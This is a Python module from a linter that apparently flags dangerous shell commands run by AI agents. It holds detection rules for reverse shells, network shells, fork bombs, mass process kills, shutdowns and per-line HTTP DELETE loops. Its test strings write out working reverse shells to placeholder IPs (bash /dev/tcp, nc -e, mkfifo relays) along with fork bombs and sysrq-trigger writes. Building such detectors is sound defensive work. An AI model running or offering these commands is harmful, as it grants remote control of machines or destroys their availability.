"""Network shells, HTTP deletions for each line of a list, and resource exhaustion (NE and DO families)."""

from __future__ import annotations

import re
from collections.abc import Iterator

from .._analysis import (
    CommandSubject,
    FunctionSubject,
    LoopSubject,
    RedirectSubject,
    StdinKind,
)
from .._model import Severity
from .._tables import Tables
from ..programs import WRITERS
from ..programs.destinations import loopback_host, on_the_loopback
from ..programs.http_requests import HTTP_CLIENTS, request_method_and_urls
from ..programs.sending import NETCATS
from ._paths import literal_prefix, reading, redirect_writes_file, written_paths
from ._rule import Hit, Inspects, rule

# Programs that carry their standard input to a network peer and its answers
# back: a shell piped into one is a relay (openssl only as `s_client`).
_SOCKET_CLIENTS = NETCATS | {"socat", "telnet", "cryptcat", "openssl"}
_SOCAT_EXEC_ADDRESSES = ("exec:", "system:")
_SOCKET_PATHS = ("/dev/tcp/", "/dev/udp/")


def _readiness_probe(subject: RedirectSubject, path: str) -> bool:
    """`</dev/tcp/localhost/5432`, `echo > /dev/tcp/127.0.0.1/6379`: a TCP connection to this
    machine that nothing reads from and nothing but an empty line is sent through, the way a
    script waits for a local server. Not `exec 3<>...` (the descriptor stays open for what
    follows, and every program started after it inherits it) nor a compound command's redirect."""
    segments = path.split("/")
    if len(segments) != 5 or segments[2] != "tcp" or not segments[4].isdigit() or not loopback_host(segments[3]):
        return False
    words = subject.command_words
    if words is None:
        return False
    if not words:
        return True  # redirects alone: bash opens the connection and closes it
    name = subject.command_name
    return name in (":", "true") or (name == "echo" and all(arg.value == "" for arg in words[1:]))


@rule(
    id="NE001",
    name="dev-tcp-redirection",
    severity=Severity.HIGH,
    summary=(
        "Opens a network connection through bash's /dev/tcp or /dev/udp redirection, "
        "other than a probe of a local port that sends nothing."
    ),
    rationale=(
        "`bash -i >& /dev/tcp/host/port 0>&1` is the canonical reverse shell; it needs no network tool at all. "
        "A shell on a local socket is a backdoor for any local process, and data sent to a local service "
        "(`echo FLUSHALL > /dev/tcp/localhost/6379`) acts on it; only `</dev/tcp/localhost/5432` or "
        "`echo > /dev/tcp/127.0.0.1/6379`, which wait for a server, are let through."
    ),
    safer_alternative="Use curl or a client library for network access, so the request is visible; `nc -z` to probe a port.",
    inspects=Inspects.REDIRECT,
    must_match=(
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "exec 3<>/dev/tcp/example.com/80",
        "cat < /dev/udp/10.0.0.1/53",
        "echo x > /dev/tcp/h/9",
        'echo data > "/dev/tcp/$HOST/80"',
        "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1",
        "echo FLUSHALL > /dev/tcp/localhost/6379",
        "exec 3<>/dev/tcp/127.0.0.1/6379",
    ),
    must_not_match=(
        "ls /dev",
        "echo '/dev/tcp is a bash feature'",
        "echo x > dev/tcp.txt",
        'echo x > "$DEV/tcp"',
        "timeout 1 bash -c '</dev/tcp/localhost/5432' && echo open",
        "until (echo > /dev/tcp/127.0.0.1/6379) 2>/dev/null; do sleep 1; done",
    ),
)
def dev_tcp_redirection(subject: RedirectSubject, tables: Tables) -> Iterator[Hit]:
    target = subject.target
    if target is None:
        return
    # The host may be a variable (`/dev/tcp/$HOST/80`); the literal prefix decides.
    sockets = [value for value in target.values or (literal_prefix(target),) if value.startswith(_SOCKET_PATHS)]
    if sockets and not (target.values and all(_readiness_probe(subject, socket) for socket in sockets)):
        yield Hit(subject.span, f"network connection through `{target.display()}`")


@rule(
    id="NE002",
    name="network-shell",
    severity=Severity.HIGH,
    summary=(
        "Connects a program to a network socket (nc -e, ncat --exec, socat EXEC:/SYSTEM:, "
        "a shell piped into nc, telnet or openssl s_client)."
    ),
    rationale="A shell bound to a socket gives whoever is on the other end full control: a reverse or bind shell.",
    safer_alternative="Use nc/socat only to move data (`nc -zv host 80`), never to run programs.",
    inspects=Inspects.COMMAND,
    commands=_SOCKET_CLIENTS,
    must_match=(
        "nc -e /bin/sh 10.0.0.1 4444",
        "ncat --exec /bin/bash 10.0.0.1 4444",
        "nc -c sh 10.0.0.1 4444",
        "busybox nc 10.0.0.1 4444 -e sh",
        "socat tcp:10.0.0.1:4444 exec:/bin/sh",
        "socat TCP-LISTEN:4444,reuseaddr SYSTEM:bash",
        "ncat -lvp 4444 --sh-exec 'bash -i'",
        "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
        "sh -i 2>&1 < /tmp/f | telnet 10.0.0.1 4444 > /tmp/f",
        "bash -i 2>&1 < /tmp/f | openssl s_client -quiet -connect 10.0.0.1:443 > /tmp/f",
        "sh -i < /tmp/f 2>&1 | socat - TCP:10.0.0.1:4444 > /tmp/f",
    ),
    must_not_match=(
        "nc -zv example.com 80",
        "socat - TCP:example.com:80",
        "ncat -l 8080 > file",
        "mkfifo /tmp/pipe",
        "tar cz dir | nc host 9000",
        "openssl s_client -connect example.com:443 < /dev/null",
        "echo QUIT | telnet mail.example.com 25",
        "sh make-csr.sh | openssl req -new -key key.pem",
    ),
)
def network_shell(subject: CommandSubject, tables: Tables) -> Iterator[Hit]:
    name = subject.name
    args = subject.args
    if name in NETCATS and reading(subject).has("--exec", "--sh-exec", "--lua-exec"):
        yield Hit(subject.span, f"`{name}` runs a program connected to a socket")
        return
    if name == "socat":
        exec_addresses = [
            arg for arg in args if any(value.lower().startswith(_SOCAT_EXEC_ADDRESSES) for value in arg.values)
        ]
        for arg in exec_addresses:
            yield Hit(arg.span, "socat connects a socket to a program")
        if exec_addresses:
            return
    connects = name != "openssl" or (bool(args) and args[0].value == "s_client")
    if connects and _fed_by_interpreter(subject, tables):
        # The fifo relay: `cat f | sh -i 2>&1 | nc HOST PORT > f`.
        yield Hit(subject.span, f"a shell's output is sent through `{name}`")


@rule(
    id="DO001",
    name="fork-bomb",
    severity=Severity.HIGH,
    summary="A function that calls itself in the background or through a pipe: exponential process growth.",
    rationale="`:(){ :|:& };:` exhausts the process table in seconds and takes the machine down.",
    safer_alternative="Use a loop with a bound, or xargs -P for parallelism.",
    inspects=Inspects.FUNCTION,
    must_match=(":(){ :|:& };:", "bomb(){ bomb | bomb & }; bomb", "f() { f & f; }; f", "function x { x | x; }"),
    must_not_match=("f(){ echo hi; }; f", "retry(){ sleep 1; retry; }", "build(){ make | tee log; }"),
)
def fork_bomb(subject: FunctionSubject, tables: Tables) -> Iterator[Hit]:
    if subject.recursive_spawns:
        yield Hit(subject.span, f"function `{subject.name}` spawns copies of itself")


@rule(
    id="DO002",
    name="background-spawn-loop",
    severity=Severity.HIGH,
    summary="An endless loop starts shells or interpreters in the background.",
    rationale="`while :; do sh & done` fills the process table as fast as the kernel can fork.",
    safer_alternative="Bound the loop and wait for the background jobs (`wait`).",
    inspects=Inspects.LOOP,
    must_match=(
        "while :; do sh & done",
        "while true; do bash -c 'sleep 9' & done",
        "until false; do python3 x.py & done",
        "while [ 1 ]; do sh & done",
    ),
    must_not_match=(
        "while :; do sleep 1; done",
        "while read l; do sh -c 'echo' & done < f",
        "for i in 1 2; do bash x & done",
    ),
)
def background_spawn_loop(subject: LoopSubject, tables: Tables) -> Iterator[Hit]:
    if not subject.unbounded:
        return
    for name, span in subject.background_spawns:
        if tables.interpreter(name) is not None:
            yield Hit(span, f"an endless loop starts `{name}` in the background")


# With PowerShell's cmdlets, which its analyser reports as the programs they are.
_POWER_COMMANDS = frozenset({"shutdown", "reboot", "halt", "poweroff", "stop-computer", "restart-computer"})
_POWER_UNITS = frozenset({"poweroff", "reboot", "halt", "kexec", "emergency", "rescue", "suspend", "hibernate"})
_POWER_RUNLEVELS = frozenset({"0", "1", "6"})
_POWER_TARGETS = _POWER_UNITS | {"runlevel0", "runlevel1", "runlevel6", "shutdown", "kexec"}
_HELP_OPTIONS = frozenset({"--help", "--version"})
# Writing a letter here acts at once: b reboots, o powers off, c crashes, i kills everything.
SYSRQ_TRIGGER = "/proc/sysrq-trigger"
# Process-name patterns that match every process.
_MATCH_ALL = frozenset({".", ".*", "^", "^.*", ".*$", "^.*$", ".+", ""})


def _fed_by_interpreter(subject: CommandSubject, tables: Tables) -> bool:
    stdin = subject.stdin
    return (
        stdin is not None and stdin.kind is StdinKind.PIPE and any(tables.interpreter(name) for name in stdin.feeders)
    )


def _signal_all(subject: CommandSubject) -> bool:
    """`kill -9 -1` signals every process the user may signal; `kill -1 PID` is SIGHUP."""
    values = [arg.value for arg in subject.args]
    signal: str | None = "TERM"
    if values[:1] in (["-s"], ["-n"]):
        signal = values[1] if len(values) > 1 else None
        values = values[2:]
    elif values and values[0] is not None and values[0].startswith("-") and values[0] != "--":
        signal = values[0][1:]
        values = values[1:]
    if values[:1] == ["--"]:
        values = values[1:]
    # Signal 0 only asks whether the processes exist.
    return "-1" in values and signal not in ("0", "SIG0")


@rule(
    id="DO003",
    name="shutdown-or-kill-everything",
    severity=Severity.HIGH,
    summary=(
        "Shuts down or reboots the machine (PowerShell's `Stop-Computer` and `Restart-Computer` too), drops it to "
        "rescue mode (`systemctl isolate rescue.target`), "
        "or kills every process (kill -1, killall5)."
    ),
    rationale="The agent loses its own environment and every other service on the machine goes down with it.",
    safer_alternative="Stop the one process you started (`kill PID`) and leave power management to a human.",
    inspects=Inspects.COMMAND,
    commands=(*_POWER_COMMANDS, "init", "telinit", "systemctl", "kill", "killall5", "pkill", "killall", *WRITERS),
    must_match=(
        "shutdown -h now",
        "sudo reboot",
        "systemctl poweroff",
        "systemctl isolate rescue.target",
        "init 0",
        "kill -9 -1",
        "killall5 -9",
        "pkill -u root",
        "pkill -9 .",
        "echo o | tee /proc/sysrq-trigger",
    ),
    must_not_match=(
        "kill -9 12345",
        "kill %1",
        "systemctl restart nginx",
        "echo reboot",
        "kill -s TERM 42",
        "kill -0 -1",
        "shutdown --help",
        "pkill -f 'node server.js'",
        "shutdown -c",
        "systemctl poweroff --when cancel",
        "systemctl status rescue.target",
        "systemctl isolate graphical.target",
    ),
)
def shutdown_or_kill_everything(subject: CommandSubject, tables: Tables) -> Iterator[Hit]:
    name = subject.name
    values = [arg.value for arg in subject.args]
    if (
        (name in _POWER_COMMANDS and not _HELP_OPTIONS.intersection(values) and not _shutdown_stops_nothing(subject))
        or name == "killall5"
        or (name in ("init", "telinit") and values[:1] and values[0] in _POWER_RUNLEVELS)
        or (name == "systemctl" and _systemctl_leaves_running_state(subject))
        or (name == "kill" and _signal_all(subject))
        or (name in ("pkill", "killall") and _matches_every_process(subject))
        or (_names_sysrq_trigger(subject) and any(target.value == SYSRQ_TRIGGER for target in written_paths(subject)))
    ):
        yield Hit(subject.span, f"`{name}` stops the whole machine or every process")


def _shutdown_stops_nothing(subject: CommandSubject) -> bool:
    """`shutdown -c` cancels a pending shutdown, `-k` only warns the users, `--show` shows it."""
    return subject.name == "shutdown" and reading(subject).has("-c", "-k", "--show")


def _systemctl_leaves_running_state(subject: CommandSubject) -> bool:
    """`systemctl poweroff|rescue|...`, or a power or rescue target isolated or started (`systemctl
    isolate rescue.target`, `systemctl start runlevel0.target`): every service and login ends."""
    operands = reading(subject).operands
    units = [(arg.value or "").removesuffix(".target") for arg in operands]
    if not units or _cancels(subject):
        return False
    if units[0] in _POWER_UNITS:
        return True
    return units[0] in ("isolate", "start") and any(unit in _POWER_TARGETS for unit in units[1:])


def _cancels(subject: CommandSubject) -> bool:
    """`systemctl poweroff --when cancel` cancels a scheduled power-off."""
    return any(value.value == "cancel" for value in reading(subject).values("--when"))


def _names_sysrq_trigger(subject: CommandSubject) -> bool:
    """Whether some word holds the trigger's path (a written file is a word or its end): most
    writers do not, and are not read against their declarations for it."""
    return any(SYSRQ_TRIGGER in value for arg in subject.args for value in arg.values)


def _matches_every_process(subject: CommandSubject) -> bool:
    """`pkill .`, `pkill -u root` (no pattern: every process of the user), `killall -u bob`."""
    read = reading(subject)
    if read.operands:
        return any(pattern.value in _MATCH_ALL for pattern in read.operands)
    return bool(read.values("--euid", "--uid", "--user"))


@rule(
    id="DO004",
    name="sysrq-trigger-by-redirect",
    severity=Severity.HIGH,
    summary="A redirect writes to /proc/sysrq-trigger, which reboots, powers off or crashes the machine at once.",
    rationale="Each letter written there is a kernel command run immediately, without syncing disks or asking anyone.",
    safer_alternative="Leave power management to a human; stop only the processes you started.",
    inspects=Inspects.REDIRECT,
    must_match=("echo b > /proc/sysrq-trigger", "printf c >/proc/sysrq-trigger"),
    must_not_match=("cat /proc/sys/kernel/sysrq", "echo 1 > /proc/sys/kernel/sysrq", "echo b > sysrq-trigger.txt"),
)
def sysrq_trigger_by_redirect(subject: RedirectSubject, tables: Tables) -> Iterator[Hit]:
    target = redirect_writes_file(subject)
    if target is not None and target.value == SYSRQ_TRIGGER:
        yield Hit(subject.span, f"redirect writes a kernel command to {SYSRQ_TRIGGER}")


@rule(
    id="NE025",
    name="http-delete-per-input-line",
    severity=Severity.MEDIUM,
    summary=(
        "Sends an HTTP `DELETE` for each item of a list: through xargs or GNU parallel "
        "(`xargs -n1 curl -X DELETE < urls.txt`), or in a loop whose URL takes each id in turn "
        "(`while read id; do curl -X DELETE .../users/$id; done < ids.txt`, `for id in $(jq -r '.[].id' f); do ...`)."
    ),
    rationale=(
        "Each item is one resource deleted at an API, as many as the list holds, with no undo and no look at "
        "what the list selected: a wrong file or filter deletes the wrong set. One `curl -X DELETE URL` is an "
        "ordinary API call and passes, and so does a loop over ids written out in the command "
        "(`for id in 3 7 9`); this warns, as a batch clean-up is sometimes the job."
    ),
    safer_alternative="Run the batch against a staging API first, print the requests (`xargs echo curl ...`), or use the API's bulk endpoint with a dry run.",
    inspects=Inspects.COMMAND,
    commands=HTTP_CLIENTS,
    must_match=(
        "xargs -n1 curl -X DELETE < urls.txt",
        "cat ids.txt | xargs -I{} curl -s -X DELETE https://api.example.com/v1/users/{}",
        "xargs -I{} http DELETE api.example.com/items/{} < ids",
        'while read id; do curl -X DELETE "https://api.example.com/v1/users/$id"; done < ids.txt',
        "for id in $(jq -r '.[].id' users.json); do curl -X DELETE https://api.example.com/v1/users/$id; done",
        "cat ids.txt | parallel curl -X DELETE https://api.example.com/v1/users/{}",
    ),
    must_not_match=(
        "curl -X DELETE https://api.example.com/v1/users/42",
        "xargs -n1 curl -sO < urls.txt",
        "cat ids.txt | xargs -I{} curl -s https://api.example.com/v1/users/{}",
        "for id in 3 7 9; do curl -X DELETE https://api.example.com/v1/users/$id; done",
        "for i in $(seq 1 5); do curl -X DELETE http://localhost:8080/items/$i; done",
        'while read id; do curl -s "https://api.example.com/v1/users/$id"; done < ids.txt',
    ),
)
def http_delete_per_input_line(subject: CommandSubject, tables: Tables) -> Iterator[Hit]:
    how = _repeated_by(subject)
    if how is None:
        return
    method, urls = request_method_and_urls(subject.name, reading(subject))
    # A server on this machine is a development one: its test data is the agent's to clear.
    if method == "DELETE" and not (urls and all(on_the_loopback(url.value or literal_prefix(url)) for url in urls)):
        yield Hit(subject.span, f"`{subject.name}` sends a DELETE for each {how}")


# GNU parallel's replacement strings (`{}`, `{.}`, `{2}`): a word holding one takes each input in turn.
_PARALLEL_INPUT = re.compile(r"\{\d*(?:\.|/|//|/\.|\.\.)?\}")


def _repeated_by(subject: CommandSubject) -> str | None:
    """What runs the command once per item of a list, in words: xargs, GNU parallel fed lines, or a
    loop one of its words takes the items of; None when nothing does."""
    if "xargs" in subject.wrappers:
        return "line xargs reads"
    if "parallel" in subject.location.path and any(
        _PARALLEL_INPUT.search(value) for arg in subject.args for value in arg.values
    ):
        return "input GNU parallel reads"
    if subject.each_item:
        return "item the loop goes through"
    return None


NETWORK_AND_RESOURCE_RULES = (
    dev_tcp_redirection,
    network_shell,
    http_delete_per_input_line,
    fork_bomb,
    background_spawn_loop,
    shutdown_or_kill_everything,
    sysrq_trigger_by_redirect,
)
